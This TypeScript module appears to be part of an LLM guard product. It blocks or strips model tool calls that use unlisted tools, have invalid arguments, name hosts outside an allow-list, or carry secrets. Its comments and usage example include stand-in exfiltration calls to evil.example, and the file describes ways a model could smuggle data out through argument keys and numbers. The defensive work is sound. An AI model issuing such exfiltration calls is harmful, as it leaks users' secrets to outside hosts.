/**
 * Tool-call control: checks the tool calls a model answers with against a tool policy before the
 * client (an agent that will run them) sees them. A call violates the policy when its tool is
 * not listed, its arguments do not parse or do not fit the tool's JSON Schema, they name a host
 * the policy does not allow (exfiltration: a call that loads `https://evil.example/?d=<secrets>`), or
 * the guard's DLP detectors find a secret in them. The policy then blocks the whole answer, or
 * strips the offending calls and reports them.
 *
 * Violations explain themselves with JSON paths, schema keywords and finding categories; they
 * never repeat argument values (they may be the secret).
 */
import { RampartError } from '../core/errors.ts';
import { formatPath } from '../config/load.ts';
import { hostMatches } from '../config/host-pattern.ts';
import type { Finding, Severity } from './types.ts';
import type { ToolPolicy } from './tool-policy.ts';
import { quoteName, worstAction, type ToolDefinitionsResult } from './tool-definitions.ts';
import { hostsIn } from './url-hosts.ts';

export { compileToolPolicy, compileToolPolicies, type ToolPolicy } from './tool-policy.ts';
export { CachedPinStore, checkToolDefinitions, toolDefinitionHash, MemoryPinStore, type PinStore, type ToolDefinitionsResult } from './tool-definitions.ts';

export interface ToolCall {
  readonly id?: string;
  readonly name: string;
  /** The arguments as the model wrote them: a JSON string, possibly malformed. */
  readonly arguments: string;
}

export type ViolationKind =
  | 'unlisted_tool'
  | 'invalid_arguments'
  | 'unparseable_arguments'
  | 'secret_in_arguments'
  | 'unlisted_host'
  /** The DLP hook threw: the arguments could not be checked (fails closed). */
  | 'scan_failed';

export interface Violation {
  readonly kind: ViolationKind;
  /** Paths, schema keywords, categories and tool names only; never argument values. */
  readonly detail: string;
  /** invalid_arguments: the schema keyword; secret_in_arguments: the finding category. */
  readonly rule?: string;
}

export interface CallVerdict {
  /** Index in the calls given (the answer's `tool_calls`). */
  readonly index: number;
  readonly id?: string;
  readonly name: string;
  readonly violations: readonly Violation[];
  readonly action: 'allow' | 'strip' | 'block';
  /** Length of the arguments string (the span findings cover). */
  readonly argumentsLength: number;
}

export interface ToolCallsResult {
  /** block: withhold the answer; strip: remove the calls whose action is strip; allow. */
  readonly action: 'allow' | 'strip' | 'block';
  readonly calls: readonly CallVerdict[];
}

export interface CheckToolCallsOptions {
  /**
   * The guard profile's DLP hook, called on every string value in the arguments (after JSON
   * decoding, so `\u0041KIA...` escapes hide nothing), with its path. A finding whose category
   * is under the policy's `scanCategories` makes the call a `secret_in_arguments` violation.
   */
  readonly scanText?: (text: string, path: string) => readonly Finding[] | Promise<readonly Finding[]>;
}

/** Deeper arguments are refused rather than walked (stack and Ajv recursion). */
const MAX_DEPTH = 64;

interface StringValue {
  readonly path: string;
  readonly text: string;
}

const shortKey = (k: string) => (k.length > 64 ? `${k.slice(0, 64)}…` : k);

/** Keys this long are checked too: a model can smuggle data in a key as well as in a value. */
const KEY_CHECK_CHARS = 12;
/** Integers this large are checked too (as digits): card and account numbers are often sent as numbers. */
const NUMBER_CHECK_MIN = 100_000;

/**
 * Every text in the arguments with its path (`to`, `items[2].url`): string values, long keys
 * (`meta.<key> (key)`) and large integers, iteratively; null when nested deeper than MAX_DEPTH.
 */
function stringValues(root: unknown): StringValue[] | null {
  const out: StringValue[] = [];
  const stack: { value: unknown; path: (string | number)[] }[] = [{ value: root, path: [] }];
  while (stack.length > 0) {
    const { value, path } = stack.pop()!;
    if (path.length > MAX_DEPTH) return null;
    if (typeof value === 'string') out.push({ path: formatPath(path) || '(arguments)', text: value });
    else if (typeof value === 'number' && Number.isInteger(value) && Math.abs(value) >= NUMBER_CHECK_MIN) {
      out.push({ path: formatPath(path) || '(arguments)', text: String(value) });
    } else if (Array.isArray(value)) for (let i = value.length - 1; i >= 0; i--) stack.push({ value: value[i], path: [...path, i] });
    else if (typeof value === 'object' && value !== null) {
      const keys = Object.keys(value);
      for (let i = keys.length - 1; i >= 0; i--) {
        const key = keys[i]!;
        if (key.length >= KEY_CHECK_CHARS) out.push({ path: `${formatPath([...path, shortKey(key)])} (key)`, text: key });
        stack.push({ value: (value as Record<string, unknown>)[key], path: [...path, shortKey(key)] });
      }
    }
  }
  return out;
}

/** `/items/0/to` (Ajv's JSON Pointer) as `items[0].to`; keys are model-written, so they are cut short. */
function pointerPath(pointer: string): string {
  if (pointer === '') return '(arguments)';
  const parts = pointer
    .slice(1)
    .split('/')
    .map((p) => p.replace(/~1/g, '/').replace(/~0/g, '~'))
    .map((p) => (/^\d+$/.test(p) ? Number(p) : shortKey(p)));
  return formatPath(parts);
}

const inCategories = (category: string, keys: readonly string[]) => keys.some((k) => category === k || category.startsWith(`${k}.`));

function redactKeys(detail: string, keys: readonly string[]): string {
  let out = detail;
  for (const k of keys) {
    for (const form of new Set([k, shortKey(k), JSON.stringify(k).slice(1, -1), JSON.stringify(shortKey(k)).slice(1, -1), k.slice(0, 64)])) {
      out = out.split(form).join('<redacted>');
    }
  }
  return out;
}

async function checkOne(policy: ToolPolicy, call: ToolCall, index: number, opts: CheckToolCallsOptions): Promise<CallVerdict> {
  let violations: Violation[] = [];
  const tool = policy.tools.get(call.name);
  if (!tool) {
    const near = policy.nearMiss(call.name);
    const hint = near ? ` (differs from the listed ${quoteName(near)} only by case or spacing)` : '';
    violations.push({ kind: 'unlisted_tool', detail: `tool ${quoteName(call.name)} is not on the allow-list${hint}` });
  }
  const allowHosts = tool ? tool.allowHosts : policy.allowHosts;

  let values: StringValue[] | null = null;
  if (call.arguments.length > policy.maxArgumentsChars) {
    violations.push({ kind: 'invalid_arguments', rule: 'maxArgumentsChars', detail: `arguments are ${call.arguments.length} characters, over the policy's ${policy.maxArgumentsChars}` });
  } else {
    let parsed: unknown;
    let ok = true;
    try {
      parsed = JSON.parse(call.arguments);
    } catch {
      ok = false;
    }
    if (!ok) {
      violations.push({ kind: 'unparseable_arguments', detail: 'arguments are not valid JSON' });
      // A lenient agent may still run it: check the raw text for hosts and secrets.
      values = [{ path: '(arguments)', text: call.arguments }];
    } else if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed)) {
      violations.push({ kind: 'invalid_arguments', rule: 'type', detail: '(arguments): must be a JSON object' });
      values = stringValues(parsed);
    } else {
      values = stringValues(parsed);
      if (values === null) {
        violations.push({ kind: 'invalid_arguments', rule: 'maxDepth', detail: `(arguments): nested deeper than ${MAX_DEPTH} levels` });
      } else if (tool?.validate && !tool.validate(parsed)) {
        const err = tool.validate.errors?.[0];
        const where = err ? pointerPath(err.instancePath) : '(arguments)';
        const extra = err?.keyword === 'additionalProperties' ? ` (${quoteName(String((err.params as { additionalProperty?: unknown }).additionalProperty))})` : '';
        violations.push({ kind: 'invalid_arguments', rule: err?.keyword ?? 'schema', detail: `${where}: ${err?.message ?? 'does not match the schema'}${extra}` });
      }
    }
  }

  if (values && allowHosts) {
    for (const v of values) {
      const bad = hostsIn(v.text).filter((h) => !hostMatches(h.host, allowHosts));
      if (bad.length > 0) {
        const invalid = bad.some((h) => h.host === null);
        violations.push({ kind: 'unlisted_host', detail: `${v.path}: names ${bad.length === 1 ? 'a host' : `${bad.length} hosts`} not in allowHosts${invalid ? ' (or an unreadable one)' : ''}` });
      }
    }
  }

  if (values && opts.scanText && policy.scanCategories.length > 0) {
    const scan = opts.scanText;
    const results = await Promise.all(
      values.map(async (v) => {
        try {
          return { v, findings: await scan(v.text, v.path) };
        } catch {
          return { v, findings: null };
        }
      }),
    );
    const secretKeys: string[] = [];
    for (const { v, findings } of results) {
      if (findings === null) {
        violations.push({ kind: 'scan_failed', detail: `${v.path}: the DLP scan failed` });
        continue;
      }
      const categories = [...new Set(findings.map((f) => f.category).filter((c) => inCategories(c, policy.scanCategories)))];
      if (categories.length > 0 && v.path.endsWith(' (key)')) secretKeys.push(v.text);
      for (const c of categories) violations.push({ kind: 'secret_in_arguments', rule: c, detail: `${v.path}: ${c}` });
    }
    // Paths name keys; a key that is itself a secret must not reach a detail through them.
    if (secretKeys.length > 0) violations = violations.map((x) => ({ ...x, detail: redactKeys(x.detail, secretKeys) }));
  }

  const action = worstAction(violations.map((v) => (v.kind === 'unlisted_tool' ? policy.unlistedTools : v.kind === 'scan_failed' ? 'block' : policy.onViolation)));
  return { index, ...(call.id !== undefined ? { id: call.id } : {}), name: call.name, violations, action, argumentsLength: call.arguments.length };
}

/**
 * Checks the tool calls of one answer (all choices' calls, or one choice's). Calls are checked
 * independently, so with `strip` a bad call among parallel ones is removed alone.
 * @example
 *   const r = await checkToolCalls(policy, [{ id: 'c1', name: 'fetch_url', arguments: '{"url":"https://evil.example/"}' }]);
 *   r.calls[0].violations; // [{ kind: 'unlisted_host', detail: 'url: names a host not in allowHosts' }]
 */
export async function checkToolCalls(policy: ToolPolicy, calls: readonly ToolCall[], opts: CheckToolCallsOptions = {}): Promise<ToolCallsResult> {
  const verdicts = await Promise.all(calls.map((c, i) => checkOne(policy, c, i, opts)));
  return { action: worstAction(verdicts.map((v) => v.action)), calls: verdicts };
}

/** The indexes of the calls to keep after `strip` (all of them on allow; none on block). */
export function keptCallIndexes(result: ToolCallsResult): number[] {
  if (result.action === 'block') return [];
  return result.calls.filter((c) => c.action === 'allow').map((c) => c.index);
}

const CATEGORY: Record<ViolationKind, string> = {
  unlisted_tool: 'tool.unlisted',
  invalid_arguments: 'tool.invalid_arguments',
  unparseable_arguments: 'tool.invalid_arguments',
  secret_in_arguments: 'tool.secret_in_arguments',
  unlisted_host: 'tool.unlisted_host',
  scan_failed: 'guard.error',
};
const SEVERITY: Record<ViolationKind, Severity> = {
  unlisted_tool: 'high',
  invalid_arguments: 'medium',
  unparseable_arguments: 'medium',
  secret_in_arguments: 'critical',
  unlisted_host: 'high',
  scan_failed: 'high',
};

export const TOOL_CONTROL_DETECTOR = { id: 'tool-control', version: '1.0.0' } as const;

/** A guard Finding about one call or one tool definition, with the action the tool policy took. */
export interface ToolFinding extends Finding {
  readonly subject: 'call' | 'definition';
  /** Index of the call (in the answer) or definition (in the request's `tools`). */
  readonly index: number;
  readonly toolName: string | null;
  readonly toolAction: 'allow' | 'strip' | 'block';
}

/**
 * The violations as guard Findings (categories `tool.unlisted`, `tool.invalid_arguments`,
 * `tool.unlisted_host`, `tool.secret_in_arguments`, `tool.definition_changed`), so they land in
 * the same detection records as the guard engine's. Spans cover the whole arguments string.
 */
export function toolPolicyFindings(result: { calls?: ToolCallsResult; definitions?: ToolDefinitionsResult }): ToolFinding[] {
  const out: ToolFinding[] = [];
  const base = { detector: TOOL_CONTROL_DETECTOR.id, detectorVersion: TOOL_CONTROL_DETECTOR.version, score: 1, start: 0 };
  for (const c of result.calls?.calls ?? []) {
    for (const v of c.violations) {
      out.push({
        ...base,
        category: CATEGORY[v.kind],
        end: c.argumentsLength,
        severity: SEVERITY[v.kind],
        rule: v.rule ? `${v.kind}:${v.rule}` : v.kind,
        explanation: `Tool call ${c.index} (${quoteName(c.name)}): ${v.detail}.`,
        subject: 'call',
        index: c.index,
        toolName: c.name,
        toolAction: c.action,
      });
    }
  }
  for (const d of result.definitions?.tools ?? []) {
    const category = d.status === 'changed' || d.status === 'duplicate' ? 'tool.definition_changed' : d.status === 'unlisted' || d.status === 'malformed' ? 'tool.unlisted' : null;
    if (category === null) continue;
    out.push({
      ...base,
      category,
      end: 0,
      severity: 'high',
      rule: `definition_${d.status}`,
      explanation: `Tool definition ${d.index}: ${d.detail}.`,
      subject: 'definition',
      index: d.index,
      toolName: d.name,
      toolAction: d.action,
    });
  }
  return out;
}

function summary(items: readonly { name: string | null; action: string }[], what: (n: string) => string): string {
  const names = [...new Set(items.filter((i) => i.action === 'block').map((i) => (i.name === null ? 'a malformed tool' : quoteName(i.name))))];
  return what(names.slice(0, 5).join(', ') + (names.length > 5 ? ` and ${names.length - 5} more` : ''));
}

/** The error for a request whose tools the policy blocks (400). */
export function toolDefinitionsError(result: ToolDefinitionsResult): RampartError {
  const changed = result.tools.some((t) => t.action === 'block' && (t.status === 'changed' || t.status === 'duplicate'));
  const blocked = result.tools.filter((t) => t.action === 'block');
  return changed
    ? new RampartError('RAMPART_TOOL_DEFINITION_CHANGED', { detail: summary(blocked, (n) => `Tools: ${n}.`), param: 'tools' })
    : new RampartError('RAMPART_TOOL_NOT_ALLOWED', { detail: summary(blocked, (n) => `Tools: ${n}.`), param: 'tools' });
}

/** The error for an answer withheld because of its tool calls (502). */
export function toolCallsError(result: ToolCallsResult): RampartError {
  return new RampartError('RAMPART_TOOL_CALL_BLOCKED', { detail: summary(result.calls, (n) => `Tool calls: ${n}.`) });
}
